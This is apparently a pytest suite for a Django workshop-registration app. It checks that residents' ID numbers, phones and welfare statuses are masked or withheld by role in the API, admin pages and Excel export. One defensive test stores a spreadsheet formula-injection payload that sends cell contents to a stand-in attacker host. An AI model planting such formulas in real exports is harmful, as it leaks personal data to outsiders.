"""ID number, disability and low-income status: in full only for the organiser and grid worker of the
resident's region and the resident themself; masked or withheld for every other role, in the API, the
admin lists and forms, and the Excel export."""

import io

import pytest
from django.contrib.auth import get_user_model
from openpyxl import load_workbook

from programs.models import Region
from programs.validators import mask_id_number
from tests.factories import EnterpriseFactory, coordinator, enterprise_user, officer

from .factories import (
    PositionFactory,
    RegistrationFactory,
    ResidentFactory,
    WorkshopFactory,
    grid_worker,
    organiser,
    resident_user,
    village,
)

pytestmark = pytest.mark.django_db


@pytest.fixture
def person():
    return ResidentFactory(
        name="汤忠定", village=village(town=1, number=1), has_disability=True, is_low_income=True, phone="13905801234"
    )


def full(resident):
    return {
        "id_number": resident.id_number,
        "phone": resident.phone,
        "has_disability": True,
        "is_low_income": True,
    }


def masked(resident):
    return {
        "id_number": mask_id_number(resident.id_number),
        "phone": "139****1234",
        "has_disability": None,
        "is_low_income": None,
    }


def sensitive(body):
    return {key: body[key] for key in ("id_number", "phone", "has_disability", "is_low_income")}


@pytest.mark.parametrize("who", ["organiser", "grid_worker"])
def test_the_organiser_and_grid_worker_of_the_region_see_the_sensitive_fields(person, api_as, who):
    user = organiser() if who == "organiser" else grid_worker(region=person.village.parent)
    body = api_as(user).get(f"/api/v1/workshop-residents/{person.pk}/").json()
    assert sensitive(body) == full(person)


def test_the_resident_sees_their_own_record_in_full_and_nobody_elses(person, api_as):
    client = api_as(resident_user(person))
    assert sensitive(client.get("/api/v1/workshop-residents/me/").json()) == full(person)
    other = ResidentFactory(village=person.village)
    assert client.get(f"/api/v1/workshop-residents/{other.pk}/").status_code == 404
    assert [r["id"] for r in client.get("/api/v1/workshop-residents/").json()["results"]] == [person.pk]


def test_staff_of_another_region_do_not_see_the_resident_at_all(person, api_as):
    dinghai = Region.objects.get(code=village("330902").code[:6] + "000000")
    assert api_as(grid_worker(region=dinghai)).get(f"/api/v1/workshop-residents/{person.pk}/").status_code == 404
    assert api_as(organiser(region=dinghai)).get("/api/v1/workshop-residents/").json()["count"] == 0


@pytest.mark.parametrize("make", [coordinator, officer, enterprise_user], ids=["coordinator", "officer", "enterprise"])
def test_roles_without_a_need_to_know_cannot_read_residents(person, api_as, make):
    assert api_as(make()).get("/api/v1/workshop-residents/").status_code == 403
    assert api_as(make()).get(f"/api/v1/workshop-residents/{person.pk}/").status_code == 403


def test_a_superuser_reads_residents_masked(person, api_as):
    root = get_user_model().objects.create_superuser("root", "root@example.cn", "x")
    body = api_as(root).get(f"/api/v1/workshop-residents/{person.pk}/").json()
    assert sensitive(body) == masked(person)


def test_the_host_enterprise_sees_registrants_names_but_never_their_sensitive_fields(person, api_as):
    host = EnterpriseFactory()
    registration = RegistrationFactory(
        resident=person, position=PositionFactory(workshop=WorkshopFactory(host_enterprise=host))
    )
    RegistrationFactory()  # another workshop's
    response = api_as(enterprise_user(host)).get("/api/v1/workshop-registrations/")
    [row] = response.json()["results"]
    assert (row["id"], row["resident_name"]) == (registration.pk, "汤忠定")
    assert person.id_number not in response.text and person.phone not in response.text
    assert "is_low_income" not in row and "has_disability" not in row


def test_the_admin_list_masks_the_id_number_even_for_the_organiser(person, client):
    client.force_login(organiser())
    page = client.get("/admin/workshops/resident/").text
    assert person.name in page
    assert mask_id_number(person.id_number) in page
    assert person.id_number not in page
    assert person.phone not in page


def test_the_admin_form_shows_sensitive_fields_to_the_organiser_and_withholds_them_from_a_superuser(person, client):
    client.force_login(organiser())
    page = client.get(f"/admin/workshops/resident/{person.pk}/change/").text
    assert person.id_number in page
    assert 'name="is_low_income"' in page and 'name="has_disability"' in page
    client.force_login(get_user_model().objects.create_superuser("root", "root@example.cn", "x"))
    page = client.get(f"/admin/workshops/resident/{person.pk}/change/").text
    assert person.id_number not in page
    assert mask_id_number(person.id_number) in page
    assert 'name="is_low_income"' not in page and 'name="has_disability"' not in page


def test_roles_without_a_need_to_know_cannot_open_residents_in_the_admin(person, client):
    client.force_login(coordinator())
    assert client.get("/admin/workshops/resident/").status_code == 403


def export(client, resident):
    response = client.post("/admin/workshops/resident/", {"action": "export_xlsx", "_selected_action": [resident.pk]})
    assert response.status_code == 200
    rows = list(load_workbook(io.BytesIO(response.content)).active.iter_rows(values_only=True))
    return rows[1]


def test_the_export_masks_the_id_number_and_shows_statuses_only_to_those_who_need_them(person, client):
    client.force_login(organiser())
    row = export(client, person)
    assert row[1] == mask_id_number(person.id_number)
    assert row[2] == person.phone
    assert row[4] and row[5]  # disability and low-income, for the organiser of the region
    client.force_login(get_user_model().objects.create_superuser("root", "root@example.cn", "x"))
    row = export(client, person)
    assert row[1] == mask_id_number(person.id_number)
    assert row[2] == "139****1234"
    assert (row[4], row[5]) == (None, None)


def test_a_name_typed_as_a_formula_is_exported_as_text(person, client):
    type(person).objects.filter(pk=person.pk).update(name='=HYPERLINK("http://evil.example/?"&A1,"click")')
    client.force_login(organiser())
    row = export(client, person)
    assert row[0] == '\'=HYPERLINK("http://evil.example/?"&A1,"click")'
